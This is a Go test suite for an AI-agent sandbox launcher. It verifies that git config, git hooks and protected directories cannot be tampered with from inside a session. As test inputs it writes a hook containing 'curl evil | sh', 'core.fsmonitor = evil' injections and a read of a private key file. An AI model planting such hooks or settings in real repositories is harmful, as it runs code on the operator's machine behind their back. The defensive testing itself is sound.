package kerneltest

import (
	"encoding/json"
	"os"
	"os/exec"
	"regexp"
	"strings"
	"testing"
)

// The built-in write protection of existing paths inside a write tree is
// enforced by the session's mount namespace (DESIGN.md section 7,
// integrity carve-outs): a read-only bind over .git/config and .git/hooks,
// a pin over .git, and the workspace keeps its full Landlock grant, so
// git works in it at kernel speed.

// gitRepo makes the sandbox's workspace a git repository with one commit,
// and returns the path of git.
func gitRepo(t *testing.T, s *sandbox) string {
	t.Helper()
	git := s.lookPath("git")
	if git == "" {
		t.Fatalf("this test needs git in %s", sandboxPATH)
	}
	s.write("home/proj/README", "readme\n")
	for _, args := range [][]string{
		{"init", "-q", s.ws},
		{"-C", s.ws, "-c", "user.email=t@t", "-c", "user.name=t", "add", "README"},
		{"-C", s.ws, "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "first"},
	} {
		cmd := exec.Command(git, args...)
		cmd.Env = s.env()
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
	}
	return git
}

// TestIntegrityBinds: in a git workspace under a write grant, git adds and
// commits inside the session (new entries in the workspace and in .git),
// while every way of changing what git runs later outside fails: the
// config and hooks are read-only mounts, and .git itself, its config and
// its hooks directory cannot be renamed, removed or replaced. Each
// attack succeeds without the launcher (controls at the end).
func TestIntegrityBinds(t *testing.T) {
	s := newSandbox(t, standard)
	git := gitRepo(t, s)
	config, hooks := s.ws+"/.git/config", s.ws+"/.git/hooks"
	s.writeAbs(hooks+"/pre-commit.sample", "#!/bin/sh\n")
	before, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}

	// Ordinary work: new top-level entries, git add and commit (index.lock,
	// objects, refs), a branch.
	work := git + " -c user.email=t@t -c user.name=t"
	r := s.sh("echo new > new.txt && mkdir -p src && echo 'package main' > src/main.go && " +
		work + " add -A && " + work + " commit -qm second && " + work + " branch topic && " + git + " log --oneline | wc -l")
	if r.code != 0 || strings.TrimSpace(r.stdout) != "2" {
		t.Fatalf("git add and commit inside the session: %s", r)
	}
	if !strings.Contains(r.stderr, "protected paths mounted over themselves") {
		t.Errorf("the start line does not say that protected paths are mounted: %s", r.stderr)
	}

	a := func(args ...string) result { return s.agent(args...) }
	wantErr(t, "append core.fsmonitor to .git/config", a("append", config, "[core]\n\tfsmonitor = evil\n"), "EROFS")
	wantErr(t, "write .git/config", a("write", config, "[core]\n"), "EROFS")
	wantErr(t, "truncate .git/config", a("truncate", config, "0"), "EROFS")
	wantErr(t, "plant .git/hooks/pre-commit", a("write", hooks+"/pre-commit", "#!/bin/sh\ncurl evil | sh\n"), "EROFS")
	wantErr(t, "rewrite a sample hook", a("append", hooks+"/pre-commit.sample", "evil\n"), "EROFS")
	wantErr(t, "rename a sample hook to an active one", a("rename", hooks+"/pre-commit.sample", hooks+"/pre-commit"), "EROFS")
	wantErr(t, "rename .git away", a("rename", s.ws+"/.git", s.ws+"/.git-old"), "EBUSY")
	wantErr(t, "remove .git/config", a("unlink", config), "EBUSY")
	wantErr(t, "rename .git/config away", a("rename", config, s.ws+"/.git/config-old"), "EBUSY")
	wantErr(t, "rename .git/hooks away", a("rename", hooks, s.ws+"/.git/hooks-old"), "EBUSY")
	wantOK(t, "control: a file to move over the config", a("write", s.ws+"/evil-config", "[core]\n\tfsmonitor = evil\n"))
	wantErr(t, "rename a file over .git/config", a("rename", s.ws+"/evil-config", config), "EBUSY", "EXDEV")
	wantErr(t, "exchange a file with .git/config", a("exchange", s.ws+"/evil-config", config), "EBUSY", "EXDEV")
	wantErr(t, "hard-link .git/config into the workspace", a("link", config, s.ws+"/config-link"), "EXDEV")
	if r := s.sh(git + " config core.fsmonitor evil"); r.code == 0 {
		t.Errorf("git config core.fsmonitor worked inside: %s", r)
	}
	if r := s.sh("chmod 0777 .git/hooks/pre-commit.sample; echo $?"); strings.TrimSpace(r.stdout) == "0" {
		t.Errorf("chmod of a hook worked: %s", r)
	}
	wantFile(t, config, string(before))
	wantFile(t, hooks+"/pre-commit.sample", "#!/bin/sh\n")
	if _, err := os.Lstat(hooks + "/pre-commit"); err == nil {
		t.Errorf("HOLE: the agent planted %s/pre-commit", hooks)
	}
	if st, err := os.Stat(hooks + "/pre-commit.sample"); err != nil || st.Mode().Perm() == 0o777 {
		t.Errorf("the sample hook's mode changed: %v %v", st.Mode(), err)
	}

	// Controls: each attack works without the launcher.
	wantOK(t, "control: bare appends to .git/config", s.bare("append", config, "[core]\n\tfsmonitor = evil\n"))
	wantOK(t, "control: bare plants a hook", s.bare("write", hooks+"/pre-commit", "#!/bin/sh\n"))
	wantOK(t, "control: bare renames .git/hooks", s.bare("rename", hooks, s.ws+"/.git/hooks-old"))
	wantOK(t, "control: bare renames .git", s.bare("rename", s.ws+"/.git", s.ws+"/.git-old"))
}

// TestIntegrityBindLostToOutsideRename: the operator's git rewrites
// .git/config from outside while the session runs (a lock file renamed
// over it), which detaches the session's read-only mount from that name;
// the agent can then change the new file, and the session-end review
// reports it (DESIGN.md section 7). Before the rename, the same write
// fails.
func TestIntegrityBindLostToOutsideRename(t *testing.T) {
	s := newSandbox(t, standard)
	gitRepo(t, s)
	config := s.ws + "/.git/config"
	marks := s.mkdir("home/proj/marks")
	ag := shq(agent)
	l := s.startLive(marks, ag+" append "+shq(config)+" before; "+ag+` write "$STARTED" x >/dev/null && `+ag+` wait-file "$GO" 25000 >/dev/null && exec `+ag+" append "+shq(config)+" '[core]\n\tfsmonitor = evil\n'")
	// The operator's edit, the way git makes it.
	s.writeAbs(config+".lock", "[core]\n\trepositoryformatversion = 0\n")
	if err := os.Rename(config+".lock", config); err != nil {
		t.Fatal(err)
	}
	r := l.finish(marks)
	lines := r.outLines()
	if len(lines) != 2 || !strings.HasPrefix(lines[0], "err EROFS ") {
		t.Fatalf("before the outside rename, the append must fail with EROFS: %s", r)
	}
	if !strings.HasPrefix(lines[1], "ok ") {
		t.Fatalf("the documented limit changed: after the outside rename the agent's append is %q; update DESIGN.md section 7 and this test", lines[1])
	}
	if !strings.Contains(r.stderr, "modified "+config) {
		t.Errorf("the session-end review does not report the changed config: %s", r.stderr)
	}
}

// TestIntegrityBindEveryMount: a workspace that another mount also
// exposes (bound at a second place before launch) is protected at both
// places; a mount over one name only would leave the other writable, as
// the floor's grant is on the workspace's inode, which both reach. The
// second mount is made in a user and mount namespace of the test's own
// (unshare), so the test runs the same as root and as an ordinary user.
func TestIntegrityBindEveryMount(t *testing.T) {
	s := newSandbox(t, standard)
	gitRepo(t, s)
	// Outside the home directory and the workspace, where the planner
	// looks for no protected name: only the mount table finds it.
	second := s.mkdir("mirror")
	unshare, err := exec.LookPath("unshare")
	if err != nil {
		t.Fatalf("this test needs unshare: %v", err)
	}
	script := `mount --bind "$WS" "$MIRROR" && exec "$@"`
	run := func(args ...string) result {
		argv := append([]string{"-Urm", "/bin/sh", "-c", script, "sh", launcher, "run", "--config", s.config, "--workspace", s.ws, "--", agent}, args...)
		cmd := exec.Command(unshare, argv...)
		cmd.Env = append(s.env(), "WS="+s.ws, "MIRROR="+second)
		cmd.Dir = s.ws
		var out, errb strings.Builder
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return result{stdout: out.String(), stderr: errb.String(), code: code}
	}
	wantOK(t, "control: the mirror reaches the workspace", run("read", second+"/README"))
	wantOK(t, "control: the agent writes through the mirror", run("write", second+"/notes", "x"))
	wantErr(t, "append to .git/config through the mirror", run("append", second+"/.git/config", "[core]\n\tfsmonitor = evil\n"), "EROFS")
	wantErr(t, "plant a hook through the mirror", run("write", second+"/.git/hooks/pre-commit", "#!/bin/sh\n"), "EROFS")
	wantErr(t, "rename .git through the mirror", run("rename", second+"/.git", second+"/.git-old"), "EBUSY")
	if _, err := os.Lstat(s.ws + "/.git/hooks/pre-commit"); err == nil {
		t.Errorf("HOLE: a hook was planted through the second mount")
	}
}

// TestIntegrityUnbindable: where a mount cannot enforce the protection,
// the floor keeps it by sibling rules: a hooks directory holding a file
// the denylist protects (a read-only mount would leave it readable under
// the workspace's grant) and a hard-linked config are protected as
// before, and check --landlock names them.
func TestIntegrityUnbindable(t *testing.T) {
	s := newSandbox(t, standard)
	gitRepo(t, s)
	hooks := s.ws + "/.git/hooks"
	s.writeAbs(hooks+"/deploy.pem", envSec)
	s.writeAbs(hooks+"/pre-commit", "#!/bin/sh\n")
	wantOK(t, "control: bare reads the key in the hooks directory", s.bare("read", hooks+"/deploy.pem"))
	wantErr(t, "read the key in the hooks directory", s.agent("read", hooks+"/deploy.pem"), "EACCES")
	wantErr(t, "rewrite a hook", s.agent("append", hooks+"/pre-commit", "evil\n"), "EACCES")
	wantErr(t, "plant a hook", s.agent("write", hooks+"/post-checkout", "#!/bin/sh\n"), "EACCES")
	// The key carves the workspace and .git as any denied file does
	// (sibling rules): existing files stay writable.
	wantOK(t, "control: the workspace's files stay writable", s.agent("append", s.ws+"/README", "x"))
	wantFile(t, hooks+"/pre-commit", "#!/bin/sh\n")

	c := s.exec(launcher, "check", "--landlock", "--json", "--config", s.config, "--workspace", s.ws)
	var pl struct {
		Binds   []struct{ Path string }         `json:"binds"`
		Unbound []struct{ Path, Reason string } `json:"unbound"`
	}
	if err := json.Unmarshal([]byte(c.stdout), &pl); err != nil {
		t.Fatalf("check --landlock --json: %v: %s", err, c)
	}
	found := false
	for _, u := range pl.Unbound {
		found = found || u.Path == hooks
	}
	if !found {
		t.Errorf("check does not list %s among the paths kept by sibling rules: %s", hooks, c.stdout)
	}
	for _, b := range pl.Binds {
		if b.Path == hooks {
			t.Errorf("%s is mounted read-only although it holds a denied file", hooks)
		}
	}

	// A config with a second name: the start is refused, as without the
	// view (the other name may lie in a granted tree).
	if err := os.Link(s.ws+"/.git/config", s.ws+"/config-twin"); err != nil {
		t.Fatal(err)
	}
	r := s.agent("read", s.ws+"/README")
	if r.code != 125 || !strings.Contains(r.stderr, "hard links") {
		t.Errorf("a hard-linked .git/config must refuse the start: %s", r)
	}
}

// TestIntegrityAncestorsPinned (adversarial review, H2): a mount point
// cannot be renamed, but a directory above it could, taking the mount
// along; the agent would then put its own sub/.envrc, or its own nested
// repository with a core.fsmonitor, where the operator's shell and git
// look. Every ancestor of a protected path that the floor lets the agent
// move is pinned. Controls: an unprotected sibling directory moves, and
// every move works without the launcher.
func TestIntegrityAncestorsPinned(t *testing.T) {
	s := newSandbox(t, standard)
	git := gitRepo(t, s)
	s.write("home/proj/sub/.envrc", "export SAFE=1\n")
	s.write("home/proj/deep/a/b/.npmrc", "registry=https://registry.npmjs.org/\n")
	s.write("home/proj/docs/readme", "docs\n")
	if out, err := exec.Command(git, "init", "-q", s.ws+"/lib").CombinedOutput(); err != nil {
		t.Fatalf("git init lib: %v: %s", err, out)
	}
	ws := s.ws
	wantErr(t, "move sub (holding .envrc) away", s.agent("rename", ws+"/sub", ws+"/sub.orig"), "EBUSY")
	wantErr(t, "exchange sub with another directory", s.agent("exchange", ws+"/sub", ws+"/docs"), "EBUSY")
	wantErr(t, "move a nested repository away", s.agent("rename", ws+"/lib", ws+"/lib.orig"), "EBUSY")
	wantErr(t, "move a far ancestor of .npmrc away", s.agent("rename", ws+"/deep", ws+"/deep.orig"), "EBUSY")
	wantErr(t, "move a near ancestor of .npmrc away", s.agent("rename", ws+"/deep/a/b", ws+"/deep/a/c"), "EBUSY")
	wantOK(t, "control: an unprotected directory moves", s.agent("rename", ws+"/docs", ws+"/docs2"))
	wantFile(t, ws+"/sub/.envrc", "export SAFE=1\n")
	wantOK(t, "control: bare moves sub", s.bare("rename", ws+"/sub", ws+"/sub.orig"))
	wantOK(t, "control: bare moves the nested repository", s.bare("rename", ws+"/lib", ws+"/lib.orig"))
}

// TestIntegrityWorkspaceInTemp: a git workspace under /var/tmp, which the
// policy grants whole, as the embedded default policy does (a private
// tmpfs in the view, the workspace bound back into it): a grant from
// above cannot withhold anything below it, so only the mounts protect
// .git/config and the hooks there. The planner descends to the workspace
// to find them. Controls: the workspace is writable, and the attacks work
// without the launcher.
func TestIntegrityWorkspaceInTemp(t *testing.T) {
	s := newSandbox(t, `write_paths = ["<workspace>/**", "/var/tmp/**"]`+"\n")
	ws := s.gitWorkspaceIn("/var/tmp")
	config, hook := ws+"/.git/config", ws+"/.git/hooks/pre-commit"
	before, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}
	run := func(args ...string) result {
		t.Helper()
		return s.exec(launcher, append([]string{"run", "--config", s.config, "--workspace", ws, "--", agent}, args...)...)
	}
	r := run("write", ws+"/notes.txt", "x")
	wantOK(t, "control: the agent writes in the workspace", r)
	if !strings.Contains(r.stderr, "protected paths mounted over themselves") {
		t.Errorf("no mounts: %s", r.stderr)
	}
	wantErr(t, "append core.fsmonitor to .git/config", run("append", config, "[core]\n\tfsmonitor = evil\n"), "EROFS")
	wantErr(t, "plant a hook", run("write", hook, "#!/bin/sh\n"), "EROFS")
	wantErr(t, "move .git away", run("rename", ws+"/.git", ws+"/.git-old"), "EBUSY")
	wantFile(t, config, string(before))

	// Started from inside the workspace, which is pinned (the agent could
	// otherwise move it away in /var/tmp, and .git with it), and from
	// inside the read-only hooks: the working directory is entered again
	// after the mounts, so it is on them, not a way around them.
	for dir, relHook := range map[string]string{ws: ".git/hooks/pre-commit", ws + "/.git/hooks": "pre-commit"} {
		runIn := func(args ...string) result {
			t.Helper()
			return s.execIn(dir, launcher, append([]string{"run", "--config", s.config, "--workspace", ws, "--", agent}, args...)...)
		}
		wantOK(t, "control: started in "+dir+", the agent writes in the workspace", runIn("write", ws+"/notes.txt", "y"))
		wantErr(t, "started in "+dir+", plant a hook by the relative name "+relHook, runIn("write", relHook, "#!/bin/sh\n"), "EROFS")
	}
	// A stdio fd opened on .git/config before the mounts would write
	// past the read-only one: refused.
	f, err := os.OpenFile(config, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	s.stdin = f
	r = run("append", "/dev/stdin", "[core]\n\tfsmonitor = evil\n")
	s.stdin = nil
	if r.code != 125 || !strings.Contains(r.stderr, "fd 0") {
		t.Errorf("run with stdin open on .git/config: %s", r)
	}
	wantFile(t, config, string(before))
	wantOK(t, "control: bare appends to .git/config", s.bare("append", config, "[core]\n"))
	wantOK(t, "control: bare plants a hook", s.bare("write", hook, "#!/bin/sh\n"))
}

// TestWorkspaceAliasUnderGrant: a git workspace under /var/tmp, which the
// policy grants whole, gets a Landlock rule of its own, so that the
// kernel's walk ends there (docs/design-amendments.md, the eighteenth
// pass). A rule is the directory's, not the path's: a bind mount of the
// workspace made before launch at a path the policy denies gets the
// workspace's rights, on the workspace's own files, as a workspace with a
// rule of its own always had (a review found it). What the view protects
// in the workspace stays protected there: the protected paths are mounted
// over at every place a mount exposes them. Controls: the denied tree
// beside the alias stays denied, and the attacks work without the
// launcher.
func TestWorkspaceAliasUnderGrant(t *testing.T) {
	s := newSandbox(t, `write_paths = ["<workspace>/**", "/var/tmp/**"]`+"\n")
	ws := s.gitWorkspaceIn("/var/tmp")
	alias := s.mkdir("alias")
	config, hook := ws+"/.git/config", ws+"/.git/hooks/pre-commit"
	before, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}
	plan := s.exec(launcher, "check", "--landlock", "--config", s.config, "--workspace", ws)
	if plan.code != 0 {
		t.Fatalf("check --landlock: %s", plan)
	}
	if !regexp.MustCompile(`(?m)^\s+dir\s+` + regexp.QuoteMeta(ws) + `\s`).MatchString(plan.stdout) {
		t.Fatalf("no rule of its own on the workspace %s:\n%s", ws, plan.stdout)
	}
	run := func(args ...string) result {
		t.Helper()
		return s.withBind(ws, alias, launcher, append([]string{"run", "--config", s.config, "--workspace", ws, "--", agent}, args...)...)
	}
	wantOK(t, "control: the agent writes in the workspace", run("write", ws+"/notes.txt", "x"))
	wantOK(t, "the workspace's own file through its alias (the rule is the directory's)", run("write", alias+"/notes.txt", "y"))
	wantFile(t, ws+"/notes.txt", "y")
	wantErr(t, "control: a new file beside the alias, in the denied tree", run("write", s.path("beside"), "x"), "EACCES")
	wantErr(t, "append core.fsmonitor to .git/config through the alias", run("append", alias+"/.git/config", "[core]\n\tfsmonitor = evil\n"), "EROFS")
	wantErr(t, "plant a hook through the alias", run("write", alias+"/.git/hooks/pre-commit", "#!/bin/sh\n"), "EROFS")
	wantFile(t, config, string(before))
	if _, err := os.Stat(hook); err == nil {
		t.Errorf("a hook was planted: %s", hook)
	}
	wantOK(t, "control: bare plants a hook through the alias", s.withBind(ws, alias, agent, "write", alias+"/.git/hooks/pre-commit", "#!/bin/sh\n"))
	wantFile(t, hook, "#!/bin/sh\n")
}

// TestIntegrityNoView: where the view cannot be built (user namespaces
// refused), nothing mounts over .git/config or the hooks, and the floor
// keeps them read-only by sibling rules instead: the claim behind
// treating every mount failure as a view error. Control: the same writes
// work without the launcher.
func TestIntegrityNoView(t *testing.T) {
	s := newSandbox(t, standard)
	gitRepo(t, s)
	config, hook := s.ws+"/.git/config", s.ws+"/.git/hooks/pre-commit"
	noView := func(argv ...string) result {
		bin, args := s.noViewArgs("", false, argv...)
		return s.exec(bin, args...)
	}
	r := noView(agent, "append", config, "[core]\n\tfsmonitor = evil\n")
	if !strings.Contains(r.stderr, "NO private view") || strings.Contains(r.stderr, "mounted over themselves") {
		t.Fatalf("not a session without the view, or mounts without one: %s", r.stderr)
	}
	wantErr(t, "append core.fsmonitor to .git/config without the view", r, "EACCES")
	wantErr(t, "plant a hook without the view", noView(agent, "write", hook, "#!/bin/sh\n"), "EACCES")
	wantErr(t, "move .git away without the view", noView(agent, "rename", s.ws+"/.git", s.ws+"/.git-old"), "EACCES", "EXDEV")
	wantOK(t, "control: bare appends to .git/config", s.bare("append", config, "[core]\n"))
	wantOK(t, "control: bare plants a hook", s.bare("write", hook, "#!/bin/sh\n"))
}
